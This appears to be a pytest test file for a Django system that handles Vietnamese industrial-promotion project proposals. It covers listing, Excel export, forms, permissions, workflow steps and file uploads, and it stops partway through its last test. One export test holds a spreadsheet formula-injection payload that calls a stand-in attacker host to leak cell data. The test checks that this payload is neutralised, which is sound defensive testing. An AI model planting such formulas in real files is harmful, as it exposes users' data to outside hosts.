"""The đề án pages: who reaches them, what they save and show, and what they cost."""

from __future__ import annotations

import datetime
import io

import pytest
from django.contrib.auth.views import redirect_to_login
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook

from accounts.models import Agency, User
from programs.models import Activity, Indicator
from projects import services
from projects.models import Attachment, BudgetLine, Proposal
from reference.models import Commune
from tests.beneficiaries.factories import BeneficiaryFactory, commune_of
from tests.projects.factories import (  # noqa: F401
    PDF,
    S,
    advance,
    appraise,
    make_proposal,
    pdf_upload,
    staff,
    tmp_media,
)

SONLA, HANOI, DAKLAK = 14, 1, 66


def login(client, username):
    user = User.objects.get(username=username)
    client.force_login(user)
    return user


def upload_data(files, *, next="detail", rows=None):
    """The POST of the dossier upload: a row per (file, document type pk or "" for another
    document[, title]), and ``rows`` rows in all (the rest without a file)."""
    rows = max(rows or 0, len(files))
    data = {"next": next, "doc-TOTAL_FORMS": rows, "doc-INITIAL_FORMS": rows}
    for i in range(rows):
        upload, document, *title = files[i] if i < len(files) else (None, "")
        if upload is not None:
            data[f"doc-{i}-file"] = upload
        data[f"doc-{i}-document_type"] = document
        data[f"doc-{i}-title"] = title[0] if title else ""
    return data


def form_data(proposal, *, beneficiaries=(), lines=(), outputs=None, **general):
    """The POST of the entry form, as the page's fields name them."""
    data = {
        "g-version": proposal.version,
        "g-title": proposal.title,
        "g-kind": proposal.kind,
        "g-activity": proposal.activity_id,
        "g-implementing_agency": proposal.implementing_agency_id,
        "g-start_date": proposal.start_date.strftime("%d/%m/%Y"),
        "g-end_date": proposal.end_date.strftime("%d/%m/%Y"),
        "g-objectives": proposal.objectives,
        "g-double_funding_justification": "",
        "ben-TOTAL_FORMS": len(beneficiaries),
        "ben-INITIAL_FORMS": 0,
        "line-TOTAL_FORMS": len(lines),
        "line-INITIAL_FORMS": 0,
    }
    data.update({f"g-{k}": v for k, v in general.items()})
    for i, (beneficiary, share) in enumerate(beneficiaries):
        data[f"ben-{i}-beneficiary"] = beneficiary.pk if beneficiary else ""
        data[f"ben-{i}-label"] = beneficiary.name if beneficiary else "Hợp tác xã"
        data[f"ben-{i}-support_amount"] = share
    for i, line in enumerate(lines):
        for key, value in line.items():
            data[f"line-{i}-{key}"] = value
    for code, value in (outputs or {}).items():
        data[f"out-target_{code}"] = value
    return data


# --- List and export ------------------------------------------------------------------------


@pytest.mark.django_db
def test_the_list_shows_each_user_their_province_only(world, client):
    sonla = make_proposal(SONLA, attach=False)
    hanoi = make_proposal(HANOI, attach=False)
    login(client, "sct-sonla")
    body = client.get(reverse("proposal-list")).content.decode()
    assert sonla.code in body and hanoi.code not in body
    login(client, "inspector-hanoi")
    body = client.get(reverse("proposal-list")).content.decode()
    assert hanoi.code in body and sonla.code not in body
    login(client, "ministry")
    response = client.get(reverse("proposal-list"))
    assert response.status_code == 200
    assert sonla.code in response.content.decode() and hanoi.code in response.content.decode()
    assert response.context["paginator"].count == 2
    sonla_pk = sonla.province_id
    response = client.get(reverse("proposal-list"), {"province": sonla_pk})
    assert [p.code for p in response.context["object_list"]] == [sonla.code]


@pytest.mark.django_db
def test_the_list_filters_and_searches(world, client):
    draft = make_proposal(SONLA, attach=False)
    group = make_proposal(SONLA, kind="group", beneficiaries=2)
    group.title = "Hỗ trợ máy móc chế biến chè Mộc Châu"
    group.save(update_fields=["title"])
    submitted = advance(make_proposal(SONLA), "submitted")
    login(client, "sct-sonla")

    def codes(**params):
        response = client.get(reverse("proposal-list"), params)
        assert response.status_code == 200
        return {p.code for p in response.context["object_list"]}

    assert codes(status="submitted") == {submitted.code}
    assert codes(kind="group") == {group.code}
    assert codes(q="máy móc chế biến") == {group.code}
    assert codes(q="MAY MOC che bien che moc chau") == {group.code}  # no accents, any case
    assert codes(q=draft.code) == {draft.code}
    assert codes(q="KCĐP-SLA-2027") == {draft.code, group.code, submitted.code}
    assert codes(activity=Activity.objects.get(code="03").pk) == {
        draft.code,
        group.code,
        submitted.code,
    }
    assert codes(activity=Activity.objects.get(code="01").pk) == set()
    assert codes(year=2027, level="local") == {draft.code, group.code, submitted.code}
    assert codes(year=2026) == set()
    assert codes(plan=draft.plan_id, status="draft") == {draft.code, group.code}
    # A malformed filter does not break the page: it is ignored.
    assert codes(year="abc") == {draft.code, group.code, submitted.code}


@pytest.mark.django_db
def test_the_export_holds_the_filtered_rows(world, client):
    approved = advance(make_proposal(SONLA), "approved")
    make_proposal(SONLA, attach=False)
    make_proposal(HANOI, attach=False)
    login(client, "sct-sonla")
    response = client.get(reverse("proposal-export"), {"status": "approved"})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    sheet = load_workbook(io.BytesIO(response.content)).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][:3] == ("STT", "Mã đề án", "Tên đề án")
    assert [r[1] for r in rows[1:]] == [approved.code]
    header = rows[0]
    row = dict(zip(header, rows[1], strict=True))
    # Khuyến công funds, with the counterpart money in its own column, never added in.
    assert row["Kinh phí khuyến công được duyệt – KCĐP (đồng)"] == 300_000_000
    assert row["Kinh phí khuyến công được duyệt (đồng)"] == 300_000_000
    assert (
        row["Kinh phí khuyến công được duyệt (đồng)"]
        + row["Vốn đối ứng (đồng)"]
        + row["Nguồn khác (đồng)"]
        == approved.approved_total
        == 1_000_000_000
    )
    assert row["Số quyết định phê duyệt"] == "45/QĐ-UBND"
    # Without a filter: both Sơn La đề án, never Hà Nội's.
    sheet = load_workbook(io.BytesIO(client.get(reverse("proposal-export")).content)).active
    assert sheet.max_row == 3


@pytest.mark.django_db
def test_the_list_costs_the_same_queries_for_5_or_40_proposals(
    world, client, django_assert_max_num_queries
):
    for _ in range(5):
        make_proposal(SONLA, attach=False)
    login(client, "sct-sonla")
    client.get(reverse("proposal-list"))  # warm the session and caches
    with django_assert_max_num_queries(14) as few:
        assert client.get(reverse("proposal-list")).status_code == 200
    for _ in range(35):
        make_proposal(SONLA, attach=False)
    with django_assert_max_num_queries(len(few.captured_queries)):
        response = client.get(reverse("proposal-list"))
    assert response.context["paginator"].count == 40


# --- Create ---------------------------------------------------------------------------------


@pytest.mark.django_db
def test_a_provincial_editor_creates_a_draft(world, client):
    user = login(client, "sct-sonla")
    page = client.get(reverse("proposal-create"))
    assert page.status_code == 200
    plans = set(page.context["form"].fields["plan"].queryset)
    assert plans and all(p.province_id in (None, user.province_id) for p in plans)
    plan = next(p for p in plans if p.year == 2026)
    centre = Agency.objects.get(province__code=SONLA, kind="promotion_centre")
    response = client.post(
        reverse("proposal-create"),
        {
            "plan": plan.pk,
            "title": "Mô hình trình diễn sấy nông sản",
            "kind": "group",
            "activity": Activity.objects.get(code="03.1").pk,
            "implementing_agency": centre.pk,
            "start_date": "01/03/2026",
            "end_date": "30/11/2026",
        },
    )
    proposal = Proposal.objects.get(title="Mô hình trình diễn sấy nông sản")
    assert response.status_code == 302
    assert response["Location"] == reverse("proposal-edit", args=[proposal.pk])
    assert proposal.status == "draft" and proposal.province.code == SONLA
    assert proposal.code == "KCĐP-SLA-2026-001"


@pytest.mark.django_db
def test_create_refuses_a_foreign_agency_and_bad_dates(world, client):
    login(client, "sct-sonla")
    hanoi_centre = Agency.objects.get(province__code=HANOI, kind="promotion_centre")
    response = client.post(
        reverse("proposal-create"),
        {
            "plan": make_proposal(SONLA, attach=False).plan_id,
            "title": "X",
            "kind": "ordinary",
            "activity": Activity.objects.get(code="03.1").pk,
            "implementing_agency": hanoi_centre.pk,
            "start_date": "01/06/2027",
            "end_date": "01/03/2027",
        },
    )
    assert response.status_code == 400
    form = response.context["form"]
    assert "implementing_agency" in form.errors and "end_date" in form.errors
    assert Proposal.objects.count() == 1


@pytest.mark.django_db
@pytest.mark.parametrize("username", ["ministry", "inspector-hanoi"])
def test_create_is_for_provincial_editors_only(world, client, username):
    login(client, username)
    assert client.get(reverse("proposal-create")).status_code == 403


# --- The entry form -----------------------------------------------------------------------


@pytest.mark.django_db
def test_the_form_saves_every_section(world, client):
    proposal = make_proposal(SONLA, attach=False, beneficiaries=1)
    login(client, "sct-sonla")
    assert client.get(reverse("proposal-edit", args=[proposal.pk])).status_code == 200
    a, b = (BeneficiaryFactory(commune=commune_of(SONLA)) for _ in range(2))
    communes = list(Commune.objects.filter(province__code=SONLA).order_by("code")[:2])
    data = form_data(
        proposal,
        title="Mô hình sấy chè bằng năng lượng mặt trời",
        kind="group",
        objectives="Giảm 30 % chi phí năng lượng",
        communes=[c.pk for c in communes],
        beneficiaries=[(a, "100.000.000"), (b, "150.000.000")],
        lines=[
            {
                "item": "Máy sấy",
                "unit": "bộ",
                "quantity": "2",
                "unit_price": "300.000.000",
                "kcdp": "200.000.000",
                "counterpart": "400.000.000",
            },
            {
                "item": "Tập huấn vận hành",
                "unit": "lớp",
                "quantity": "2,5",
                "unit_price": "20.000.000",
                "kcdp": "50.000.000",
            },
        ],
        outputs={"models": 1, "trainees": 40},
    )
    response = client.post(reverse("proposal-edit", args=[proposal.pk]), data)
    assert response.status_code == 302, response.context and response.context["general"].errors
    proposal.refresh_from_db()
    assert proposal.title == "Mô hình sấy chè bằng năng lượng mặt trời"
    assert proposal.kind == "group" and proposal.version == 3
    assert set(proposal.communes.all()) == set(communes)
    assert {(x.beneficiary_id, x.support_amount) for x in proposal.beneficiary_links.all()} == {
        (a.pk, 100_000_000),
        (b.pk, 150_000_000),
    }
    lines = list(proposal.budget_lines.all())
    assert [(li.item, li.amount, li.kcdp, li.counterpart) for li in lines] == [
        ("Máy sấy", 600_000_000, 200_000_000, 400_000_000),
        ("Tập huấn vận hành", 50_000_000, 50_000_000, 0),
    ]
    assert {o.indicator.code: o.target_value for o in proposal.outputs.all()} == {
        "models": 1,
        "trainees": 40,
    }
    assert proposal.events.filter(action="edit").exists()
    # The page opens again with what was saved.
    page = client.get(reverse("proposal-edit", args=[proposal.pk]))
    assert page.context["lines"].initial[1]["quantity"] == "2,5"
    assert "Máy sấy" in page.content.decode()


@pytest.mark.django_db
def test_the_form_shows_errors_next_to_their_section_and_saves_nothing(world, client):
    proposal = make_proposal(SONLA, attach=False)
    version = proposal.version
    login(client, "sct-sonla")
    data = form_data(
        proposal,
        end_date="01/01/2027",
        beneficiaries=[(None, "100.000")],
        lines=[
            {
                "item": "Máy",
                "unit": "bộ",
                "quantity": "1",
                "unit_price": "1.000.000",
                "kcdp": "300.000",
                "counterpart": "600.000",
            }
        ],
    )
    response = client.post(reverse("proposal-edit", args=[proposal.pk]), data)
    assert response.status_code == 400
    assert "end_date" in response.context["general"].errors
    assert "beneficiary" in response.context["beneficiaries"].forms[0].errors
    line_errors = response.context["lines"].forms[0].non_field_errors()
    assert line_errors and "1.000.000" in line_errors[0] and "900.000" in line_errors[0]
    proposal.refresh_from_db()
    assert proposal.version == version and proposal.budget_lines.count() == 1


@pytest.mark.django_db
def test_service_errors_land_next_to_the_field_or_the_budget(world, client, monkeypatch):
    proposal = make_proposal(SONLA, attach=False)
    login(client, "sct-sonla")
    data = form_data(proposal)

    def refuse_field(**kwargs):
        raise ValidationError({"implementing_agency": "Chọn đơn vị của tỉnh."})

    monkeypatch.setattr(services, "proposal_save", refuse_field)
    response = client.post(reverse("proposal-edit", args=[proposal.pk]), data)
    assert response.status_code == 400
    assert response.context["general"].errors["implementing_agency"] == ["Chọn đơn vị của tỉnh."]

    def refuse_line(**kwargs):
        raise ValidationError("Dòng 1 (Máy): nguồn không khớp.")

    monkeypatch.setattr(services, "proposal_save", refuse_line)
    response = client.post(reverse("proposal-edit", args=[proposal.pk]), data)
    assert response.context["budget_errors"] == ["Dòng 1 (Máy): nguồn không khớp."]
    assert 'data-testid="budget-errors"' in response.content.decode()


@pytest.mark.django_db
def test_a_stale_form_is_told_and_not_saved(world, client):
    proposal = make_proposal(SONLA, attach=False)
    login(client, "sct-sonla")
    stale = form_data(proposal, title="Bản của tôi")
    # Somebody else saves first.
    services.proposal_save(
        proposal=proposal,
        actor=staff(SONLA, "centre_staff"),
        expected_version=proposal.version,
        fields={"title": "Bản của đồng nghiệp"},
    )
    response = client.post(reverse("proposal-edit", args=[proposal.pk]), stale)
    assert response.status_code == 409
    assert 'data-testid="stale"' in response.content.decode()
    proposal.refresh_from_db()
    assert proposal.title == "Bản của đồng nghiệp"


@pytest.mark.django_db
def test_the_edit_page_is_refused_to_others(world, client):
    proposal = make_proposal(SONLA, attach=False)
    url = reverse("proposal-edit", args=[proposal.pk])
    login(client, "sct-hanoi")
    assert client.get(url).status_code == 404
    assert client.post(url, form_data(proposal)).status_code == 404
    login(client, "ministry")
    assert client.get(url).status_code == 403
    login(client, "ttkc-sonla")
    assert client.get(url).status_code == 200
    # A submitted đề án is not edited: its editors are sent to the detail page.
    advance(make_proposal(SONLA), "submitted")
    submitted = Proposal.objects.get(status="submitted")
    response = client.get(reverse("proposal-edit", args=[submitted.pk]))
    assert response.status_code == 302
    assert response["Location"] == reverse("proposal-detail", args=[submitted.pk])


@pytest.mark.django_db
def test_the_beneficiary_autocomplete_finds_by_name_and_tax_code(world, client):
    own = BeneficiaryFactory(commune=commune_of(SONLA), name="Hợp tác xã Chè Tà Xùa")
    foreign = BeneficiaryFactory(commune=commune_of(HANOI), name="Hợp tác xã Chè Hà Nội")
    login(client, "sct-sonla")
    url = reverse("proposal-beneficiary-search")
    body = client.get(url, {"q": "che ta xua"}).content.decode()
    assert f'data-id="{own.pk}"' in body
    body = client.get(url, {"ben-0-label": own.tax_code[:6]}).content.decode()
    assert f'data-id="{own.pk}"' in body
    body = client.get(url, {"q": "Hợp tác xã Chè"}).content.decode()
    assert f'data-id="{foreign.pk}"' not in body
    login(client, "inspector-hanoi")
    assert client.get(url, {"q": "che"}).status_code == 403


# --- Detail, checks and actions -------------------------------------------------------------


@pytest.mark.django_db
def test_the_detail_page_shows_every_section(world, client):
    proposal = advance(make_proposal(SONLA, kind="group", beneficiaries=2), "submitted")
    login(client, "sct-sonla")
    response = client.get(reverse("proposal-detail", args=[proposal.pk]))
    assert response.status_code == 200
    body = response.content.decode()
    for testid in ("checks-panel", "beneficiaries", "budget-table", "document-checklist"):
        assert f'data-testid="{testid}"' in body
    states = {row["code"]: row["state"] for row in response.context["check_rows"]}
    # No local cap is recorded for Sơn La: a warning that does not block.
    assert states["cap"] == "warn" and states["documents"] == "ok"
    assert all(row["files"] for row in response.context["documents"])
    assert "1.000.000.000 ₫" in body  # the budget total
    # Concluding the appraisal waits for an appraisal recommending approval.
    actions = {t.action for t in response.context["transitions"]}
    assert actions == {"return", "reject", "cancel"}
    labels = [row["label"] for row in response.context["event_rows"]]
    assert len(labels) == proposal.events.count()
    edit = next(row for row in response.context["event_rows"] if row["event"].action == "edit")
    budget_change = next(c for c in edit["changes"] if c["after"].startswith("1 "))
    assert budget_change["before"] == "—" or "0" in budget_change["before"]
    # Another province: 404; the ministry watches.
    login(client, "sct-hanoi")
    assert client.get(reverse("proposal-detail", args=[proposal.pk])).status_code == 404
    assert client.get(reverse("proposal-checks", args=[proposal.pk])).status_code == 404
    login(client, "ministry")
    response = client.get(reverse("proposal-detail", args=[proposal.pk]))
    assert response.status_code == 200 and response.context["transitions"] == []
    appraise(proposal, staff(SONLA))
    login(client, "sct-sonla")
    response = client.get(reverse("proposal-detail", args=[proposal.pk]))
    actions = {t.action for t in response.context["transitions"]}
    assert actions == {"return", "appraise", "reject", "cancel"}


@pytest.mark.django_db
def test_the_checks_panel_shows_a_cap_exceeded_as_red(world, client):
    from tests.programs.factories import local_cap

    local_cap(commune_of(SONLA).province, activity_code="03.1")  # 50 %, at most 100 million
    proposal = make_proposal(SONLA)
    login(client, "sct-sonla")
    response = client.get(reverse("proposal-checks", args=[proposal.pk]))
    assert response.status_code == 200
    cap = next(r for r in response.context["check_rows"] if r["code"] == "cap")
    assert cap["state"] == "fail"
    assert "99/2026/NQ-HĐND-SLA" in cap["message"]
    assert 'data-testid="check-cap" data-state="fail"' in response.content.decode()


@pytest.mark.django_db
def test_the_checks_panel_is_red_for_what_the_next_step_refuses(world, client):
    """An allocation exceeded is amber while the đề án is entered and appraised (the
    submission goes through) and red once the approval decision is next (which refuses
    it): the panel and proposal_transition read the same checks.blocking_failures."""
    from tests.projects.factories import DECIDED, plan_with, staff_of, transition

    plan = plan_with(SONLA, {"03.1": 100_000_000})
    proposal = make_proposal(SONLA, plan=plan, support=200_000_000, counterpart=800_000_000)
    login(client, "sct-sonla")

    def allocation_state(p):
        response = client.get(reverse("proposal-checks", args=[p.pk]))
        return next(r["state"] for r in response.context["check_rows"] if r["code"] == "allocation")

    assert allocation_state(proposal) == "warn"
    submitted = transition(proposal, staff_of(SONLA), "submit")
    assert allocation_state(submitted) == "warn"
    appraised = advance(submitted, "appraised")
    assert allocation_state(appraised) == "fail"
    with pytest.raises(ValidationError):
        transition(
            appraised, staff_of(SONLA), "approve", decision_number="9/QĐ", decision_date=DECIDED
        )


@pytest.mark.django_db
def test_the_detail_page_costs_the_same_for_1_or_5_rows(
    world, client, django_assert_max_num_queries
):
    small = make_proposal(SONLA, beneficiaries=1)
    large = make_proposal(SONLA, kind="group", beneficiaries=5)
    services.proposal_save(
        proposal=large,
        actor=staff(SONLA),
        expected_version=large.version,
        budget_lines=[
            {
                "item": f"Dòng {i}",
                "unit": "bộ",
                "quantity": "1",
                "unit_price": 200_000_000,
                "kcdp": 60_000_000,
                "counterpart": 140_000_000,
            }
            for i in range(5)
        ],
    )
    login(client, "sct-sonla")
    client.get(reverse("proposal-detail", args=[small.pk]))
    with django_assert_max_num_queries(40) as one:
        assert client.get(reverse("proposal-detail", args=[small.pk])).status_code == 200
    with django_assert_max_num_queries(len(one.captured_queries)):
        response = client.get(reverse("proposal-detail", args=[large.pk]))
    assert len(response.context["links"]) == 5 and len(response.context["lines"]) == 5


@pytest.mark.django_db
def test_a_transition_runs_from_the_page_and_a_refusal_gives_every_reason(world, client):
    ready = make_proposal(SONLA)
    missing = make_proposal(SONLA, attach=False, beneficiaries=1)
    login(client, "sct-sonla")
    response = client.post(
        reverse("proposal-transition", args=[missing.pk]),
        {"action": "submit", "confirmed": "1"},
        follow=True,
    )
    missing.refresh_from_db()
    assert missing.status == "draft"
    texts = [str(m) for m in response.context["messages"]]
    # One message: the action was not done, and every reason (the documents, by name).
    assert len(texts) == 1 and texts[0].startswith("Chưa thực hiện được thao tác: ")
    assert "Thuyết minh đề án" in texts[0] and "Dự toán kinh phí chi tiết" in texts[0]
    response = client.post(
        reverse("proposal-transition", args=[ready.pk]), {"action": "submit", "confirmed": "1"}
    )
    assert response.status_code == 302
    ready.refresh_from_db()
    assert ready.status == "submitted"
    # The centre may not conclude an appraisal; another province does not find it.
    login(client, "ttkc-sonla")
    assert (
        client.post(
            reverse("proposal-transition", args=[ready.pk]),
            {"action": "appraise", "confirmed": "1"},
        )
    ).status_code == 403
    login(client, "sct-hanoi")
    assert (
        client.post(reverse("proposal-transition", args=[ready.pk]), {"action": "return"})
    ).status_code == 404
    assert client.get(reverse("proposal-transition", args=[ready.pk])).status_code == 405


@pytest.mark.django_db
def test_approval_with_a_decision_from_the_page(world, client):
    proposal = advance(make_proposal(SONLA), "appraised")
    login(client, "sct-sonla")
    client.post(
        reverse("proposal-transition", args=[proposal.pk]),
        {"action": "approve", "confirmed": "1", "decision_number": "", "decision_date": ""},
    )
    proposal.refresh_from_db()
    assert proposal.status == "appraised"
    client.post(
        reverse("proposal-transition", args=[proposal.pk]),
        {
            "action": "approve",
            "confirmed": "1",
            "decision_number": "88/QĐ-UBND",
            "decision_date": "20/11/2026",
        },
    )
    proposal.refresh_from_db()
    assert proposal.status == "approved" and proposal.decision_number == "88/QĐ-UBND"
    assert proposal.decision_date == datetime.date(2026, 11, 20)


# --- Documents ------------------------------------------------------------------------------


@pytest.mark.django_db
@pytest.mark.parametrize(
    "upload",
    [
        SimpleUploadedFile("setup.exe", b"MZ\x90\x00", content_type="application/x-msdownload"),
        SimpleUploadedFile(
            "thuyet-minh.pdf", b"MZ\x90\x00 not a pdf", content_type="application/pdf"
        ),
    ],
    ids=["exe", "renamed"],
)
@pytest.mark.parametrize("page", ["edit", "detail"])
def test_a_refused_file_is_a_form_error(world, client, upload, page):
    proposal = make_proposal(SONLA, attach=False)
    login(client, "sct-sonla")
    upload.seek(0)
    response = client.post(
        reverse("proposal-attach", args=[proposal.pk]),
        upload_data([(upload, "")], next=page),
    )
    assert response.status_code == 400
    assert response.context["page"] == page
    assert response.context["attach_form"].forms[0].errors["file"]
    assert 'data-testid="attach-errors"' in response.content.decode()
    assert not Attachment.objects.filter(proposal=proposal).exists()


@pytest.mark.django_db
def test_upload_download_and_remove(world, client):
    proposal = make_proposal(SONLA, attach=False)
    document = proposal.activity.parent.required_documents.first()
    login(client, "sct-sonla")
    response = client.post(
        reverse("proposal-attach", args=[proposal.pk]),
        upload_data([(pdf_upload("Báo giá.pdf"), document.pk)], next="edit"),
    )
    assert response.status_code == 302
    assert response["Location"].startswith(reverse("proposal-edit", args=[proposal.pk]))
    attachment = Attachment.objects.get(proposal=proposal)
    assert attachment.document_type == document and attachment.original_name == "Báo giá.pdf"
    url = reverse("proposal-attachment-download", args=[attachment.pk])
    download = client.get(url)
    assert download.status_code == 200
    assert b"".join(download.streaming_content) == PDF
    assert download["Content-Type"] == "application/pdf"
    assert "attachment" in download["Content-Disposition"]
    assert "B%C3%A1o%20gi%C3%A1.pdf" in download["Content-Disposition"]

    login(client, "sct-hanoi")
    assert client.get(url).status_code == 404
    assert (
        client.post(reverse("proposal-attachment-delete", args=[attachment.pk])).status_code == 404
    )
    client.logout()
    response = client.get(url)
    assert (
        response.status_code == 302 and response["Location"] == redirect_to_login(url)["Location"]
    )

    login(client, "ministry")
    assert client.get(url).status_code == 200
    login(client, "sct-sonla")
    client.post(reverse("proposal-attachment-delete", args=[attachment.pk]))
    assert not Attachment.objects.filter(pk=attachment.pk).exists()


# --- Việc cần làm --------------------------------------------------------------------------


@pytest.mark.django_db
def test_the_todo_card_lists_what_waits_for_each_user(world, client):
    submitted = advance(make_proposal(SONLA), "submitted")
    draft = make_proposal(SONLA, attach=False)
    forwarded = advance(make_proposal(DAKLAK, national=True), "forwarded")
    daklak_local = advance(make_proposal(DAKLAK), "submitted")

    login(client, "sct-sonla")
    response = client.get(reverse("home"))
    todo = {p.code for p in response.context["todo"]}
    assert submitted.code in todo and draft.code not in todo
    assert forwarded.code not in todo and daklak_local.code not in todo
    assert response.context["todo_count"] == 1
    assert 'data-testid="todo"' in response.content.decode()

    login(client, "ministry")
    response = client.get(reverse("home"))
    assert {p.code for p in response.context["todo"]} == {forwarded.code}

    login(client, "sct-daklak")
    todo = {p.code for p in client.get(reverse("home")).context["todo"]}
    assert todo == {daklak_local.code}

    login(client, "inspector-hanoi")
    assert client.get(reverse("home")).context["todo_count"] == 0
    assert BudgetLine.objects.exists() and Indicator.objects.exists()


@pytest.mark.django_db
def test_the_checks_follow_what_is_typed_without_saving_it(world, client):
    """The panel re-runs the same checks on the unsaved form (a rolled-back save)."""
    from programs.models import LegalDocument, SupportCap

    proposal = make_proposal(SONLA)  # 300 million KCĐP of a 1,000 million line
    SupportCap.objects.create(
        activity=proposal.activity,
        level="local",
        province=proposal.province,
        max_percent=50,
        max_amount=400_000_000,
        unit="model",
        effective_from=datetime.date(2025, 1, 1),
        legal_document=LegalDocument.objects.get(number="28/2018/TT-BTC"),
    )
    login(client, "sct-sonla")
    events, version = proposal.events.count(), proposal.version
    ben = [(link.beneficiary, 450_000_000) for link in proposal.beneficiary_links.all()]
    typed = form_data(
        proposal,
        beneficiaries=ben,
        lines=[
            {
                "item": "Máy móc",
                "unit": "bộ",
                "quantity": "1",
                "unit_price": "1.000.000.000",
                "kcdp": "450.000.000",
                "counterpart": "550.000.000",
                "other": "0",
            }
        ],
    )
    url = reverse("proposal-checks-preview", args=[proposal.pk])
    response = client.post(url, typed)
    assert response.status_code == 200
    rows = {row["code"]: row["state"] for row in response.context["check_rows"]}
    assert rows["cap"] == "fail"  # 450 million typed is above the 400 million cap
    proposal.refresh_from_db()
    assert proposal.version == version and proposal.events.count() == events
    assert proposal.budget_lines.get().kcdp == 300_000_000  # nothing was saved
    # The saved đề án still passes: the typed amount alone fails.
    saved = client.get(reverse("proposal-checks", args=[proposal.pk]))
    assert {r["code"]: r["state"] for r in saved.context["check_rows"]}["cap"] == "ok"
    # Incomplete input: a note instead of checks; GET is refused; other provinces get 404.
    half = client.post(url, {**typed, "line-0-unit_price": "abc"})
    assert half.context["preview_note"] and "check_rows" not in half.context
    assert client.get(url).status_code == 405
    login(client, "sct-hanoi")
    assert client.post(url, typed).status_code == 404


def test_a_bad_filter_in_a_shared_link_is_explained_and_the_others_still_apply(
    world, users, client
):
    """A stale or foreign id in a drill-down link is left out with a message next to the
    list; the valid filters of the same link still narrow the list."""
    from tests.projects.factories import make_proposal

    make_proposal(1, kind="group")
    make_proposal(1, kind="ordinary")
    kind = "group"
    client.force_login(users["sct-hanoi"])
    response = client.get(reverse("proposal-list"), {"kind": kind, "commune": "999999999"})
    assert response.status_code == 200
    body = response.content.decode()
    assert 'data-testid="filter-errors"' in body
    shown = list(response.context["page_obj"].object_list)
    assert shown and all(p.kind == kind for p in shown)
    expected = Proposal.objects.filter(province__code=1, kind=kind).count()
    assert response.context["paginator"].count == expected


@pytest.mark.django_db
def test_the_export_writes_formula_like_text_as_plain_text(world, client):
    proposal = advance(make_proposal(SONLA), "approved")
    hostile = '=HYPERLINK("http://evil.example/?leak="&A3,"Xem")'
    Proposal.objects.filter(pk=proposal.pk).update(title=hostile, decision_number="=1+1")
    login(client, "sct-sonla")
    sheet = load_workbook(io.BytesIO(client.get(reverse("proposal-export")).content)).active
    header = [c.value for c in sheet[1]]
    row = {h: c for h, c in zip(header, sheet[2], strict=True)}
    for heading, value in (("Tên đề án", hostile), ("Số quyết định phê duyệt", "=1+1")):
        assert (row[heading].value, row[heading].data_type) == (value, "s")
    assert row["Kinh phí khuyến công được duyệt (đồng)"].data_type == "n"


# --- Several dossier documents in one upload --------------------------------------------------


def _required(proposal):
    from projects.checks import required_documents

    return list(required_documents(proposal))


@pytest.mark.django_db
@pytest.mark.usefixtures("tmp_media")
def test_several_documents_in_one_post(world, client):
    proposal = make_proposal(SONLA, attach=False)
    documents = _required(proposal)
    login(client, "sct-sonla")
    page = client.get(reverse("proposal-detail", args=[proposal.pk]))
    # A row per missing document, each with its document chosen, in checklist order.
    rows = page.context["attach_form"].forms
    assert [f.initial["document_type"] for f in rows] == [str(d.pk) for d in documents]
    files = [(pdf_upload(f"{d.code}.pdf"), d.pk) for d in documents[:2]]
    files.append((pdf_upload("so-do.pdf"), "", "Sơ đồ mặt bằng"))
    response = client.post(
        reverse("proposal-attach", args=[proposal.pk]), upload_data(files, rows=5)
    )
    assert response.status_code == 302
    assert response["Location"] == reverse("proposal-detail", args=[proposal.pk]) + "#documents"
    stored = Attachment.objects.filter(proposal=proposal).order_by("pk")
    assert [(a.document_type_id, a.title) for a in stored] == [
        (documents[0].pk, documents[0].name),
        (documents[1].pk, documents[1].name),
        (None, "Sơ đồ mặt bằng"),
    ]
    assert proposal.events.filter(action="attach").count() == 3
    page = client.get(reverse("proposal-detail", args=[proposal.pk]))
    assert "Đã đính kèm 3 tài liệu" in page.content.decode()
    # The next form offers the documents still missing.
    rows = page.context["attach_form"].forms
    assert rows[0].initial["document_type"] == str(documents[2].pk)


@pytest.mark.django_db
@pytest.mark.usefixtures("tmp_media")
@pytest.mark.parametrize("htmx", [False, True], ids=["plain", "htmx"])
def test_one_bad_file_and_nothing_is_stored(world, client, htmx):
    proposal = make_proposal(SONLA, attach=False)
    documents = _required(proposal)
    login(client, "sct-sonla")
    bad = SimpleUploadedFile("bao-gia.pdf", b"MZ\x90\x00 a program", content_type="application/pdf")
    files = [(pdf_upload("thuyet-minh.pdf"), documents[0].pk), (bad, documents[1].pk)]
    response = client.post(
        reverse("proposal-attach", args=[proposal.pk]),
        upload_data(files, next="edit"),
        headers={"HX-Request": "true"} if htmx else {},
    )
    assert response.status_code == 400
    body = response.content.decode()
    good, refused = response.context["attach_form"].forms[:2]
    # The error in Vietnamese, naming the file, next to its row; the good one is marked to
    # choose again, and its document is still the one chosen.
    [error] = refused.errors["file"]
    assert error.startswith("“bao-gia.pdf”: ") and "không khớp" in error
    assert error in body and 'data-testid="attach-errors"' in body
    assert good.passed == "thuyet-minh.pdf" and "“thuyet-minh.pdf”" in body
    assert f'<option value="{documents[0].pk}" selected>' in body
    assert not Attachment.objects.filter(proposal=proposal).exists()
    assert not proposal.events.filter(action="attach").exists()
    assert ("<html" in body) is not htmx  # htmx: the card alone


@pytest.mark.django_db
@pytest.mark.usefixtures("tmp_media")
def test_upload_refused_without_the_right_to_attach(world, client):
    """workflow.may_attach: the centre no longer adds to a submitted đề án; another
    province does not see it."""
    proposal = advance(make_proposal(SONLA), S.SUBMITTED)
    before = Attachment.objects.filter(proposal=proposal).count()
    url = reverse("proposal-attach", args=[proposal.pk])
    login(client, "ttkc-sonla")
    assert (
        'data-testid="attach-form"'
        not in client.get(reverse("proposal-detail", args=[proposal.pk])).content.decode()
    )
    assert client.post(url, upload_data([(pdf_upload(), "")])).status_code == 403
    login(client, "sct-hanoi")
    assert client.post(url, upload_data([(pdf_upload(), "")])).status_code == 404
    assert Attachment.objects.filter(proposal=proposal).count() == before


@pytest.mark.django_db
@pytest.mark.usefixtures("tmp_media")
def test_htmx_upload_returns_the_card_in_bounded_queries(
    world, client, django_assert_max_num_queries
):
    proposal = make_proposal(SONLA, attach=False)
    documents = _required(proposal)
    login(client, "sct-sonla")
    url = reverse("proposal-attach", args=[proposal.pk])
    htmx = {"HX-Request": "true"}
